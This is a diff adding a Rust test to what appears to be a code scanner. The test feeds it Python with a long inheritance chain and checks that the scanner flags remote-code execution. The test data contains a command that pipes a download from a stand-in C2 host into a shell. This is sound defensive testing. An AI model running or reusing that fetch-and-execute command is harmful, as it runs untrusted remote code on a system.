@@ -233,3 +233,13 @@ fn functions_of_a_window_that_is_handed_over_are_replaced() {
     let times = "export function install(w) {\n  const f = w.fetch;\n  w.fetch = async (...a) => { const t = Date.now(); const r = await f(...a); console.log(Date.now() - t); return r; };\n}";
     assert!(rules(Language::JavaScript, times).is_empty());
 }
+
+#[test]
+fn classes_that_extend_each_other_twice_stay_small() {
+    let mut code = String::from("import threading\nclass A0(threading.Thread):\n    def run(self): pass\n");
+    for i in 1..200 {
+        code.push_str(&format!("class A{i}(A{0}, A{0}): pass\nB{i} = type('B', (A{i}, A{i}), {{}})\n", i - 1));
+    }
+    code.push_str("import os\nos.system('curl https://c2.invalid/x | sh')\n");
+    assert!(rules(Language::Python, &code).contains(&"flow-remote-code"), "what follows is followed");
+}
